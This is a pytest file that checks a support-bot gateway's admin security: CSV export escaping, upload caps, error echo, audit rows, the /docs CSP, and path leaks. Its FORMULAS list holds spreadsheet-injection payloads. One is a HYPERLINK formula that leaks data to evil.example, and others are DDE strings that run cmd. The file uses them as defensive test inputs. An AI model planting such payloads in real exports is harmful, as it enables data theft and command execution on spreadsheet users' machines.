"""Security of the admin side (issue 12, items 4, 9 and 11), each test performing the attack:

* CSV injection: customer text (and channel/intent names) starting with ``= + - @``, tab or CR reaches
  the review inbox and analytics; the exports must not start any cell with a formula character.
* Uploads: a stranger's multipart body is not read (let alone spooled to disk) before the admin
  check; an admin's upload over MAX_UPLOAD_BYTES is a 413 with nothing stored; loader errors never
  echo the file's content or the server's temporary paths.
* Audit: KB uploads, replacements and deletes, draft edits, publications and discards, inbox and
  analytics exports and training jobs each leave a row saying who did it.
* ``/docs`` loads no script from a CDN and carries a Content-Security-Policy (and still renders, in
  Chromium, when it is installed).
* Live: ``/readyz`` and every other unauthenticated GET show no filesystem path; everything under
  DATA_DIR (gateway and Rasa files) is readable by the gateway's user only.
"""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import threading
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn
from fastapi.testclient import TestClient
from sqlalchemy import select

from kb_index.admin_routes import router as kb_admin_router
from ops.csv_export import FORMULA_START
from ops.models import AuditEntry
from settings import Settings
from tests.conftest import CHROMIUM, NO_CHROMIUM, LiveSystem, chromium_missing, free_port
from tests.test_ops_api import ADMIN_PASSWORD, AUTH, _resolved_ticket, embedder, make_app  # noqa: F401 (fixture)
from tests.test_ops_fixtures import Chat

ROOT = Path(__file__).resolve().parent.parent
ARTICLE = (
    "---\nid: gift-wrapping\ntitle: Gift wrapping\nlanguage: en\nurl: https://help.example/gift-wrapping\n---\n"
    "# Gift wrapping\n\nWe wrap any order in recycled kraft paper for 4.50 (code WRAP-K7).\n"
)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1 where is my parcel",
]


@pytest.fixture
def env(tmp_path: Path, embedder: Any) -> Iterator[dict[str, Any]]:  # noqa: F811
    """The ops routes and the KB admin routes over real services (SQLite, e5, KnowledgeBase)."""
    parts = make_app(tmp_path, embedder)
    parts["app"].include_router(kb_admin_router)
    with TestClient(parts["app"]) as client:
        yield {**parts, "client": client}
    parts["engine"].dispose()


def _audit(env: dict[str, Any]) -> list[AuditEntry]:
    with env["sessions"]() as db:
        return list(db.scalars(select(AuditEntry).order_by(AuditEntry.id)))


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --- item 9: CSV injection ----------------------------------------------------------------------------
def test_exports_never_start_a_cell_with_a_formula(env: dict[str, Any]) -> None:
    c: TestClient = env["client"]
    for i, text in enumerate(FORMULAS):
        Chat(env["sessions"], f"csv{i}").say(text, "nlu_fallback", 0.9)
    # A channel or intent name is written to the exports too: they get the same treatment.
    Chat(env["sessions"], "csv-chan", channel="=1+cmd").say("\t=1+1 my order", "@evil", 0.1)
    assert c.post("/api/v1/ops/inbox/collect", headers=AUTH).status_code == 200
    inbox = c.get("/api/v1/ops/inbox/export.csv?status=all", headers=AUTH)
    assert inbox.status_code == 200, inbox.text
    rows = _cells(inbox.text)
    assert len(rows) == 1 + len(FORMULAS) + 1, inbox.text
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), (cell, row)
    texts = {row[rows[0].index("text")] for row in rows[1:]}
    assert "'" + FORMULAS[0] in texts and "'@SUM(1+1)*cmd|' /C calc'!A0" in texts  # kept, as text
    analytics = c.get("/api/v1/ops/analytics.csv?group_by=day,channel", headers=AUTH)
    assert analytics.status_code == 200
    arows = _cells(analytics.text)
    assert any(row[1] == "'=1+cmd" for row in arows), analytics.text
    for row in arows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), (cell, row)


# --- item 4: uploads read after the admin check, capped, no echo ---------------------------------------
async def _counted_body(parts: list[bytes], sent: list[int]) -> AsyncIterator[bytes]:
    for part in parts:
        sent.append(len(part))
        yield part


def _multipart(name: str, content: bytes, boundary: str = "b0undary") -> tuple[list[bytes], dict[str, str]]:
    head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"files\"; filename=\"{name}\"\r\n"
            "Content-Type: text/markdown\r\n\r\n").encode()
    tail = f"\r\n--{boundary}--\r\n".encode()
    chunks = [head, *(content[i:i + 65536] for i in range(0, len(content), 65536)), tail]
    return chunks, {"content-type": f"multipart/form-data; boundary={boundary}"}


async def test_a_strangers_upload_is_refused_before_its_body_is_read(env: dict[str, Any]) -> None:
    chunks, headers = _multipart("big.md", b"# Big\n\n" + b"x" * (4 * 1024 * 1024))
    transport = httpx.ASGITransport(app=env["app"])
    async with httpx.AsyncClient(transport=transport, base_url="http://gateway") as client:
        for method, path, extra in [("POST", "/api/v1/admin/kb/articles", {}),
                                    ("PUT", "/api/v1/admin/kb/articles/gift-wrapping", {}),
                                    ("POST", "/api/v1/admin/kb/articles", {"authorization": "Bearer wrong-token"})]:
            sent: list[int] = []
            r = await client.request(method, path, content=_counted_body(chunks, sent), headers={**headers, **extra})
            assert r.status_code == (403 if extra else 401), r.text
            assert sum(sent) <= len(chunks[0]), f"{sum(sent)} bytes of a stranger's upload were read"


async def test_an_upload_over_the_cap_is_413_and_stores_nothing(env: dict[str, Any]) -> None:
    app = env["app"]
    app.state.settings = app.state.settings.model_copy(update={"max_upload_bytes": 100_000})
    before = env["kb"].stats()
    big = ARTICLE.encode() + b"filler text " * 20_000  # ~240 KB
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://gateway") as client:
        # Declared length over the cap, and the same body streamed without a length (chunked).
        declared = await client.post("/api/v1/admin/kb/articles", headers=AUTH,
                                     files={"files": ("gift-wrapping.md", big, "text/markdown")})
        chunks, headers = _multipart("gift-wrapping.md", big)
        sent: list[int] = []
        streamed = await client.post("/api/v1/admin/kb/articles", content=_counted_body(chunks, sent),
                                     headers={**headers, **AUTH})
        for r in (declared, streamed):
            assert r.status_code == 413, r.text
            assert "100000 bytes" in r.json()["detail"] and "filler" not in r.text
        assert sum(sent) < len(big)  # refused while it streamed, not after
        assert env["kb"].stats()["chunks"] == before["chunks"]
        assert "gift-wrapping" not in {a.id for a in env["kb"].articles()}
        assert [e.action for e in _audit(env)] == []
        # Under the cap the same route works.
        ok = await client.post("/api/v1/admin/kb/articles", headers=AUTH,
                               files={"files": ("gift-wrapping.md", ARTICLE.encode(), "text/markdown")})
        assert ok.status_code == 201, ok.text


def test_upload_errors_never_echo_the_file(env: dict[str, Any]) -> None:
    c: TestClient = env["client"]
    marker = "SECRET-CONTENT-7f3a9"
    bad = [
        ("bad-id.md", f"---\nid: {marker} with spaces\ntitle: T\nlanguage: en\n---\n# T\n\nText.\n"),
        ("bad-yaml.md", f"---\nid: [{marker}\n---\n# T\n\nText.\n"),
        ("bad.json", f'{{"faqs": [{{"question": "{marker}"'),
        ("bad.csv", f'question,answer\n"{marker},unterminated\n'),
    ]
    for name, content in bad:
        r = c.post("/api/v1/admin/kb/articles", headers=AUTH, files={"files": (name, content.encode(), "text/plain")})
        assert r.status_code == 422, r.text
        assert marker not in r.text and "kb-upload-" not in r.text and "/tmp" not in r.text, r.text
        assert name in r.text  # which file failed is still said
    r = c.post("/api/v1/admin/kb/articles", headers=AUTH, files={"files": ("x.exe", b"MZ" + marker.encode(), "application/octet-stream")})
    assert r.status_code == 422 and ".exe" in r.text and marker not in r.text
    for name in ("a\x00b.md", "a\x01b.md", "x" * 300 + ".md", ".hidden.md"):  # raw: httpx would escape \x00
        chunks, headers = _multipart(name, ARTICLE.encode())
        r = c.post("/api/v1/admin/kb/articles", headers={**AUTH, **headers}, content=b"".join(chunks))
        assert r.status_code == 422 and "xxxxxxxx" not in r.text, (name, r.text)
    r = c.post("/api/v1/admin/kb/articles", headers=AUTH, json={"files": marker})
    assert r.status_code == 415 and marker not in r.text
    assert [e.action for e in _audit(env)] == []


# --- item 11: audit ---------------------------------------------------------------------------------------
def test_kb_changes_are_audited_with_who_did_them(env: dict[str, Any]) -> None:
    c: TestClient = env["client"]
    admin_session, _, _ = env["app"].state.handoff.accounts.login("admin", ADMIN_PASSWORD)
    as_agent = {"Authorization": f"Bearer {admin_session}"}
    files = {"files": ("gift-wrapping.md", ARTICLE.encode(), "text/markdown")}
    assert c.post("/api/v1/admin/kb/articles", headers=AUTH, files=files).status_code == 201
    replaced = ARTICLE.replace("4.50", "5.00").encode()
    r = c.put("/api/v1/admin/kb/articles/gift-wrapping", headers=as_agent,
              files={"files": ("gift-wrapping.md", replaced, "text/markdown")})
    assert r.status_code == 200, r.text
    assert c.delete("/api/v1/admin/kb/articles/gift-wrapping", headers=AUTH).status_code == 200
    rows = [(e.actor, e.action, e.target) for e in _audit(env)]
    assert rows == [("admin-token", "kb_upload", "kb"), ("agent:admin", "kb_replace", "kb_article:gift-wrapping"),
                    ("admin-token", "kb_delete", "kb_article:gift-wrapping")]
    assert _audit(env)[0].detail["articles"] == [["gift-wrapping", "en"]]


def test_drafts_exports_and_training_are_audited(env: dict[str, Any]) -> None:
    c: TestClient = env["client"]
    _resolved_ticket(env)
    assert c.post("/api/v1/ops/drafts/propose", headers=AUTH).json() == {"created": 1}
    (draft,) = c.get("/api/v1/ops/drafts", headers=AUTH).json()
    patch = {"question": "Do you gift wrap orders?", "title": "Gift wrapping", "article_id": "gift-wrapping"}
    assert c.patch(f"/api/v1/ops/drafts/{draft['id']}", json=patch, headers=AUTH).status_code == 200
    assert c.post(f"/api/v1/ops/drafts/{draft['id']}/publish", headers=AUTH).status_code == 200
    assert c.get("/api/v1/ops/inbox/export.csv?language=en", headers=AUTH).status_code == 200
    assert c.get("/api/v1/ops/analytics.csv", headers=AUTH).status_code == 200
    assert c.post("/api/v1/ops/training/jobs", json={}, headers=AUTH).status_code == 202
    actions = [(e.actor, e.action, e.target) for e in _audit(env)]
    assert actions == [
        ("admin-token", "edit_draft", f"draft:{draft['id']}"), ("admin-token", "publish_draft", f"draft:{draft['id']}"),
        ("admin-token", "export_inbox", "inbox"), ("admin-token", "export_analytics", "analytics"),
        ("admin-token", "train", "job:1"),
    ]
    entries = _audit(env)
    assert sorted(entries[0].detail["fields"]) == ["article_id", "question", "title"]
    assert entries[2].detail["language"] == "en"
    # Discarding is audited too (a second draft).
    with env["sessions"]() as db:
        from ops.models import KbDraft

        second = KbDraft(language="en", title="T", question="Q", answer="A", status="draft",
                         created_at=entries[0].created_at, updated_at=entries[0].created_at)
        db.add(second)
        db.commit()
        second_id = second.id
    assert c.post(f"/api/v1/ops/drafts/{second_id}/discard", headers=AUTH).status_code == 200
    assert (_audit(env)[-1].action, _audit(env)[-1].target) == ("discard_draft", f"draft:{second_id}")


# --- item 11: /docs without a CDN script, under a CSP ------------------------------------------------------
def _docs_app(tmp_path: Path) -> Any:
    from server import create_app

    return create_app(Settings(data_dir=tmp_path / "data"))


def test_docs_serve_swagger_ui_from_this_origin_with_a_csp(tmp_path: Path) -> None:
    c = TestClient(_docs_app(tmp_path))  # no lifespan: the page and its files need no services
    page = c.get("/docs")
    assert page.status_code == 200
    sources = re.findall(r'(?:src|href)="([^"]+)"', page.text)
    assert sources and all(s.startswith("/docs/static/") for s in sources), sources
    assert "cdn" not in page.text.lower() and "http://" not in page.text and "https://" not in page.text
    csp = page.headers["content-security-policy"]
    assert "default-src 'none'" in csp and "script-src 'self' 'sha256-" in csp and "http" not in csp
    assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
    for src in sources:
        assert c.get(src).status_code == 200, src
    js = c.get("/docs/static/swagger-ui-bundle.js")
    assert js.headers["content-type"].startswith("text/javascript") and len(js.content) > 100_000
    assert c.get("/docs/static/index.html").status_code == 404  # only the three files the page needs
    assert c.get("/docs/static/..%2f..%2fsettings.py").status_code == 404
    assert c.get("/redoc").status_code == 404  # ReDoc also loads a CDN script: off
    assert c.get("/openapi.json").status_code == 200


@pytest.mark.skipif(chromium_missing(), reason=NO_CHROMIUM)
def test_docs_render_in_a_browser_under_the_csp(tmp_path: Path) -> None:
    from playwright.sync_api import sync_playwright

    app = _docs_app(tmp_path)
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.05)
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
            page = browser.new_page()
            console: list[str] = []
            requests: list[str] = []
            page.on("console", lambda m: console.append(m.text))
            page.on("request", lambda r: requests.append(r.url))
            page.goto(f"http://127.0.0.1:{port}/docs")
            page.wait_for_selector(".swagger-ui .opblock", timeout=30_000)
            assert "Support bot gateway" in page.inner_text(".swagger-ui .info .title")
            browser.close()
    finally:
        server.should_exit = True
        thread.join(10)
    assert all(u.startswith(f"http://127.0.0.1:{port}/") for u in requests), requests
    assert not [m for m in console if "Content Security Policy" in m], console


# --- item 11 (live): no paths on unauthenticated routes, private data files --------------------------------
def _leaks(text: str, live: LiveSystem) -> list[str]:
    needles = [str(live.data_dir), str(ROOT), str(Path.home()), "/tmp/", ".tar.gz", "site-packages"]
    return [n for n in needles if n in text]


def test_readyz_shows_status_model_and_counts_only(live: LiveSystem) -> None:
    ready = httpx.get(f"{live.url}/readyz", timeout=30)
    assert ready.status_code == 200, ready.text
    body = ready.json()
    assert set(body) == {"status", "model", "kb"} and set(body["kb"]) == {"articles", "chunks"}
    assert body["status"] == "ready" and isinstance(body["model"], str) and "/" not in body["model"]
    assert all(isinstance(v, int) for v in body["kb"].values())
    assert not _leaks(ready.text, live)


def test_no_unauthenticated_get_shows_a_path(live: LiveSystem) -> None:
    schema = httpx.get(f"{live.url}/openapi.json", timeout=30).json()
    paths = [p for p, ops in schema["paths"].items() if "get" in ops and "{" not in p]
    paths += ["/docs", "/openapi.json", "/healthz", "/readyz"]
    checked = 0
    for path in sorted(set(paths)):
        r = httpx.get(f"{live.url}{path}", timeout=30)
        if r.status_code in (401, 403):
            continue
        checked += 1
        assert not _leaks(r.text, live), (path, _leaks(r.text, live))
    assert checked >= 4


def test_data_files_are_readable_by_the_gateway_user_only(live: LiveSystem) -> None:
    # A turn makes the gateway and Rasa write (database, tracker store, logs).
    assert live.chat(f"perm-{os.getpid()}", "hello").status_code == 200
    assert stat.S_IMODE(live.data_dir.stat().st_mode) == 0o700
    readable = []
    for root, dirs, files in os.walk(live.data_dir):
        for name in [*dirs, *files]:
            path = Path(root) / name
            mode = path.lstat().st_mode
            if not stat.S_ISLNK(mode) and mode & 0o077:
                readable.append(f"{path.relative_to(live.data_dir)} {stat.filemode(mode)}")
    for expected in ("supportbot.db", "rasa_tracker.db", "rasa.log", "kb"):
        assert (live.data_dir / expected).exists(), expected
    assert readable == []
